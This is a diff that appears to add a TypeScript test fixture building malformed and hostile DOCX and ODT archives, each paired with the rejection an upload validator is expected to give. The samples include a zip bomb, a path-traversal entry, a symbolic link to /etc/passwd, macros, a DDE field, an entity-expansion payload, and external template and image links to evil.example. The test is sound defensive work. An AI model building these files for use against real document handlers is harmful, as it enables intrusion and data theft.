@@ -1,0 +1,161 @@
+import { archive, docxParts, odtParts } from '../worlds/test-files.ts';
+import { CANARY, type HostileFile, MEGABYTE, patched, SCRIPT, text } from './hostile-kit.ts';
+
+async function docx(extra: Parameters<typeof archive>[0], body?: string): Promise<Buffer> {
+  return archive({ ...docxParts(body), ...extra });
+}
+
+const relationships = (tag: string) =>
+  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tag}</Relationships>`;
+
+/** Archives that say they are documents. */
+export async function hostileArchives(): Promise<HostileFile[]> {
+  const good = await docx({});
+  const bomb = await docx({ 'word/media/a.xml': { content: Buffer.alloc(101 * MEGABYTE, 32) } });
+  const many = Object.fromEntries(Array.from({ length: 1_001 }, (_, index) => [`word/${index}.xml`, '<a/>']));
+  const external =
+    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';
+  const slip = patched(
+    patched(await docx({ 'word/aaaaaaa.xml': '<a/>' }), 'word/aaaaaaa.xml', '../../../etc.xml'),
+    'word/aaaaaaa.xml',
+    '../../../etc.xml',
+  );
+  const declared = await docx({ 'word/big.xml': { content: Buffer.alloc(50_000, 32) } });
+  return [
+    { name: 'a DOCX that unpacks to 101 MB', file: bomb, fate: ['unpacks_too_large'] },
+    {
+      name: 'a DOCX that says it is smaller than it is',
+      file: liedAboutSize(declared, 50_000),
+      fate: ['damaged'],
+    },
+    { name: 'a DOCX of 1,001 files', file: await docx(many), fate: ['too_many_entries'] },
+    { name: 'a DOCX that climbs out of its folder', file: slip, fate: ['ambiguous'] },
+    {
+      name: 'a DOCX with a symbolic link',
+      file: await docx({ 'word/link.xml': { content: '/etc/passwd', mode: 0o120777 } }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX with a device',
+      file: await docx({ 'word/device.xml': { content: 'x', mode: 0o020666 } }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX with macros',
+      file: await docx({ 'word/vbaProject.bin': CANARY }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX with a program in it',
+      file: await docx({ 'word/embeddings/setup.exe': 'MZ' }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX with a template from elsewhere',
+      file: await docx({ 'word/_rels/settings.xml.rels': relationships(external) }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX whose reach is written in figures',
+      file: await docx({
+        'word/_rels/settings.xml.rels': relationships(external.replace('External', '&#69;xternal')),
+      }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX with a DDE field in two runs',
+      file: await docx(
+        {},
+        '<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r>',
+      ),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX with entities that grow',
+      file: await docx({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY a "aaaa">]><a>&a;</a>' }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'a DOCX in UTF-16',
+      file: await docx({ 'word/a.xml': { content: Buffer.from('\ufeff<a/>', 'utf16le') } }),
+      fate: ['ambiguous'],
+    },
+    {
+      name: 'a DOCX with a name twice',
+      file: patchedTwice(
+        await docx({ 'word/a.xml': '<a/>', 'word/b.xml': '<b/>' }),
+        'word/b.xml',
+        'word/a.xml',
+      ),
+      fate: ['ambiguous'],
+    },
+    {
+      name: 'a DOCX with a name that turns the direction',
+      file: await docx({ 'word/a\u202elmx.xml': '<a/>' }),
+      fate: ['ambiguous'],
+    },
+    {
+      name: 'a DOCX with a program before it',
+      file: Buffer.concat([text('MZ'), good]),
+      fate: ['type_not_taken'],
+    },
+    {
+      name: 'a DOCX with something behind it',
+      file: Buffer.concat([good, text(SCRIPT)]),
+      fate: ['ambiguous'],
+    },
+    { name: 'a DOCX cut in half', file: good.subarray(0, good.length >> 1), fate: ['damaged'] },
+    { name: 'a DOCX behind a password', file: encryptedFlag(good), fate: ['encrypted'] },
+    {
+      name: 'a spreadsheet',
+      file: await archive({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<a/>' }),
+      fate: ['type_not_taken'],
+    },
+    { name: 'a plain ZIP', file: await archive({ 'index.html': SCRIPT }), fate: ['type_not_taken'] },
+    {
+      name: 'an ODT with a macro',
+      file: await archive({ ...odtParts(), 'Basic/Standard/Module1.xml': '<a/>' }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'an ODT with a script on opening',
+      file: await archive({ ...odtParts(), 'content.xml': '<a><script:event-listener/></a>' }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'an ODT that loads a picture from elsewhere',
+      file: await archive({
+        ...odtParts(),
+        'styles.xml': '<a><draw:image xlink:href="https://evil.example/x.png"/></a>',
+      }),
+      fate: ['active_content'],
+    },
+    {
+      name: 'an ODT behind a password',
+      file: await archive({ ...odtParts(), 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
+      fate: ['encrypted'],
+    },
+  ];
+}
+
+/** Writes a smaller size into both headers of the entry that has this one. */
+function liedAboutSize(file: Buffer, size: number): Buffer {
+  const copy = Buffer.from(file);
+  const sign = Buffer.alloc(4);
+  sign.writeUInt32LE(size);
+  for (let at = copy.indexOf(sign); at >= 0; at = copy.indexOf(sign, at + 4)) copy.writeUInt32LE(10, at);
+  return copy;
+}
+
+function patchedTwice(file: Buffer, from: string, to: string): Buffer {
+  return patched(patched(file, from, to), from, to);
+}
+
+/** Sets the bit that says "encrypted" at the first entry. */
+function encryptedFlag(file: Buffer): Buffer {
+  const copy = Buffer.from(file);
+  copy.writeUInt16LE(copy.readUInt16LE(6) | 1, 6);
+  const directory = copy.indexOf(Buffer.from('PK\x01\x02', 'latin1'));
+  copy.writeUInt16LE(copy.readUInt16LE(directory + 8) | 1, directory + 8);
+  return copy;
+}
